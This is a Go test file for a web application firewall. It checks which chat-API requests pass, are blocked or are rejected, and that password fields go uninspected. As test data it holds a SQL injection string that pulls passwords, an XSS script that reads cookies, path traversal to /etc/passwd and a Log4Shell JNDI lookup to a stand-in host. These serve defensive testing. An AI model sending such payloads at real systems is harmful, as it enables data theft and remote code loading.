package waf

import (
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
)

const (
	sqli = "1' OR '1'='1' UNION SELECT password FROM users--"
	xss  = "<script>alert(document.cookie)</script>"

	form = "application/x-www-form-urlencoded"
	js   = "application/json"
)

func jsonText(s string) string {
	b, _ := json.Marshal(map[string]any{"room": "general", "text": s})
	return string(b)
}

func multipartBody(field, value string) string {
	return "--b0\r\nContent-Disposition: form-data; name=\"" + field + "\"\r\n\r\n" + value + "\r\n--b0--\r\n"
}

func TestRequests(t *testing.T) {
	h := provision(t, &Handler{})
	escape := strings.NewReplacer(" ", "%20", "'", "%27", "<", "%3C", ">", "%3E", "=", "%3D", "(", "%28", ")", "%29", "/", "%2F")
	unicode := func(s string) string { // each character as \u00XX
		b := new(strings.Builder)
		for _, c := range []byte(s) {
			b.WriteString(`\u00`)
			b.WriteString(string("0123456789abcdef"[c>>4]))
			b.WriteString(string("0123456789abcdef"[c&15]))
		}
		return `{"text":"` + b.String() + `"}`
	}
	for _, c := range []struct {
		name, method, target, contentType, body string
		status                                  int
	}{
		{"page", "GET", "/api/rooms/general/messages?limit=50&before=01J0ZK3W9T", "", "", 200},
		{"chat message", "POST", "/api/rooms/general/messages", js, jsonText("Hi all, shall we meet at 10? I've got the numbers: 3 > 2 & that's fine; see you (maybe) – Jörg 🙂"), 200},
		{"delete", "DELETE", "/api/rooms/general/messages/01J0ZK3W9T", "", "", 200},
		{"put without body", "PUT", "/api/rooms/general/members/petra", "", "", 200},
		{"patch", "PATCH", "/api/rooms/general", "application/merge-patch+json", `{"name":"General"}`, 200},
		{"form", "POST", "/submit", form, "name=J%C3%B6rg&text=hello+there", 200},
		{"multipart", "POST", "/api/rooms/general/files", "multipart/form-data; boundary=b0", multipartBody("note", "holiday pictures"), 200},
		{"octet stream", "POST", "/api/rooms/general/files", "application/octet-stream", "\x00\x01\x02\xff binary", 200},
		{"empty json body", "POST", "/auth/api/logout", js, "", 200},

		{"sqli in query", "GET", "/search?q=" + escape.Replace(sqli), "", "", 403},
		{"xss in query", "GET", "/search?q=" + escape.Replace(xss), "", "", 403},
		{"sqli in json", "POST", "/api/rooms/general/messages", js, jsonText(sqli), 403},
		{"xss in json", "POST", "/api/rooms/general/messages", js, jsonText(xss), 403},
		{"sqli in nested json", "POST", "/x", js, `{"a":[{"b":{"c":"` + sqli + `"}}]}`, 403},
		{"sqli escaped in json", "POST", "/x", js, unicode(sqli), 403},
		{"sqli in json, charset", "POST", "/x", "application/json; charset=utf-8", jsonText(sqli), 403},
		{"sqli in +json", "POST", "/x", "application/merge-patch+json", unicode(sqli), 403},
		{"sqli in upper-case JSON type", "POST", "/x", "APPLICATION/JSON", unicode(sqli), 403},
		{"sqli in json key", "POST", "/x", js, `{"` + sqli + `":1}`, 403},
		{"second of two equal keys", "POST", "/x", js, `{"text":"hi","text":"` + sqli + `"}`, 403},
		{"utf-7 charset", "POST", "/x", "application/json; charset=utf-7", jsonText("hello"), 403},
		{"utf-16 charset", "POST", "/x", "application/json; charset=utf-16", jsonText("hello"), 403},
		{"json as octet stream", "POST", "/x", "application/octet-stream", unicode(sqli), 403},
		{"json as form", "POST", "/x", form, unicode(sqli), 403},
		{"json without a type", "POST", "/x", "", unicode(sqli), 403},
		{"json and more without a type", "POST", "/x", "", unicode(sqli) + " trailing", 403},
		{"sqli in form", "POST", "/x", form, "text=" + escape.Replace(sqli), 403},
		{"xss in form", "POST", "/x", form, "text=" + escape.Replace(xss), 403},
		{"sqli in multipart", "POST", "/x", "multipart/form-data; boundary=b0", multipartBody("text", sqli), 403},
		{"xss in xml", "POST", "/x", "application/xml", "<m><t><![CDATA[" + xss + "]]></t></m>", 403},
		{"path traversal", "GET", "/files/../../../../etc/passwd", "", "", 403},
		{"escaped path traversal", "GET", "/files/..%2f..%2f..%2fetc%2fpasswd", "", "", 403},
		{"attack in a cookie", "GET", "/", "", "", 403},
		{"attack in a token cookie", "GET", "/", "", "", 403},
		{"log4j in a header", "GET", "/", "", "", 403},
		{"compressed body", "POST", "/x", js, `{}`, 403},
		{"text/plain", "POST", "/x", "text/plain", "hi", 403},
		{"trace", "TRACE", "/", "", "", 403},

		{"broken json", "POST", "/x", js, `{"text":"hi"`, 400},
		{"json with a tail", "POST", "/x", js, `{"text":"hi"} {"text":"ho"}`, 400},
		{"deep json", "POST", "/x", js, strings.Repeat("[", 5000) + strings.Repeat("]", 5000), 400},
		{"many arguments", "GET", "/x?" + strings.Repeat("a=1&", 1001), "", "", 400},
		{"many json values", "POST", "/x", js, "[" + strings.Repeat("1,", 1500) + "1]", 400},
		{"broken multipart", "POST", "/x", "multipart/form-data; boundary=b0", "--b0\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx", 400},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := request(c.method, c.target, c.contentType, c.body)
			switch c.name {
			case "attack in a cookie":
				r.Header.Set("Cookie", "theme=dark; last="+strings.ReplaceAll(xss, ";", ""))
			case "attack in a token cookie":
				r.Header.Set("Cookie", "__Host-gw_access=' or 1=1--")
			case "log4j in a header":
				r.Header.Set("User-Agent", "${jndi:ldap://evil.example/a}")
			case "compressed body":
				r.Header.Set("Content-Encoding", "gzip")
			}
			o := do(t, h, r)
			if o.status != c.status || o.reached != (c.status == 200) {
				t.Fatalf("status %d, passed on %t; want %d; verdict %+v", o.status, o.reached, c.status, o.verdict)
			}
			if o.reached && o.body != c.body {
				t.Errorf("the next handler read %q of %q", o.body, c.body)
			}
			if o.reached && o.length != int64(len(c.body)) {
				t.Errorf("the next handler saw Content-Length %d, want %d", o.length, len(c.body))
			}
			if o.verdict == nil || o.verdict.Blocked != (c.status == 403) {
				t.Errorf("verdict %+v", o.verdict)
			}
			if c.status == 403 {
				if len(o.verdict.Rules) == 0 {
					t.Error("no rule in the verdict")
				}
				if !strings.Contains(o.answer, `"urn:gateway:problem:waf-blocked"`) || o.header.Get("Content-Type") != "application/problem+json" {
					t.Errorf("answer %v %s", o.header, o.answer)
				}
				for _, id := range o.verdict.Rules {
					if strings.Contains(o.answer, http.StatusText(id)) && id != 0 && http.StatusText(id) != "" {
						t.Error("the answer names a rule")
					}
				}
			}
		})
	}
}

func TestDetectPassesAndRecords(t *testing.T) {
	h := provision(t, &Handler{Mode: Detect, BodyLimit: 1000, UploadLimit: 1000})
	o := do(t, h, request("POST", "/x", js, jsonText(sqli)))
	if !o.reached || o.body != jsonText(sqli) || o.verdict.Blocked || o.verdict.Score < 5 || !slices.Contains(o.verdict.Rules, 942100) {
		t.Fatalf("%+v %+v", o, o.verdict)
	}
	long := jsonText(strings.Repeat("a", 70_000)) // over the limit: still whole for the next handler
	if o := do(t, h, request("POST", "/x", js, long)); !o.reached || o.body != long {
		t.Fatalf("status %d, %d bytes of %d", o.status, len(o.body), len(long))
	}
	if o := do(t, h, request("POST", "/x", js, `{"broken`)); !o.reached {
		t.Fatalf("%+v", o)
	}
}

func TestOffDoesNothing(t *testing.T) {
	h := provision(t, &Handler{Mode: Off})
	if o := do(t, h, request("POST", "/x", js, jsonText(sqli))); !o.reached || o.verdict != nil || h.rules != nil {
		t.Fatalf("%+v", o)
	}
}

func TestPasswordsAreNotInspected(t *testing.T) {
	h := provision(t, &Handler{Exclusions: []Exclusion{fieldExclusion("/admin/*", "secret.value")}})
	login := func(user, password string) string {
		b, _ := json.Marshal(map[string]string{"username": user, "password": password})
		return string(b)
	}
	for _, c := range []struct {
		target, contentType, body string
		pass                      bool
	}{
		{"/auth/api/login", js, login("ursula", sqli+xss), true},
		{"/auth/api/login", form, "username=ursula&password=%27+OR+1%3D1--", true},
		{"/auth/api/login", js, login(sqli, "correct horse"), false},
		{"/auth/api/login?password=" + "%27%20OR%20%271%27=%271", js, login("ursula", "x"), true}, // the field, wherever it stands
		{"/auth/api/login?q=" + "%27%20OR%20%271%27=%271", js, login("ursula", "x"), false},
		{"/auth/api/login/", js, login("ursula", sqli), false},
		{"/auth/api/account/password", js, `{"old":"` + sqli + `","new":"<script>alert(1)</script>"}`, true},
		{"/api/rooms", js, login("ursula", sqli), false},
		{"/admin/keys/1", js, `{"secret":{"value":"` + sqli + `"}}`, true},
		{"/admin/keys/1", js, `{"secret":{"other":"` + sqli + `"}}`, false},
		{"/adm/keys", js, `{"secret":{"value":"` + sqli + `"}}`, false},
	} {
		if o := do(t, h, request("POST", c.target, c.contentType, c.body)); o.reached != c.pass {
			t.Errorf("%s %s: passed %t, status %d, %+v", c.target, c.body, o.reached, o.status, o.verdict)
		}
	}
}
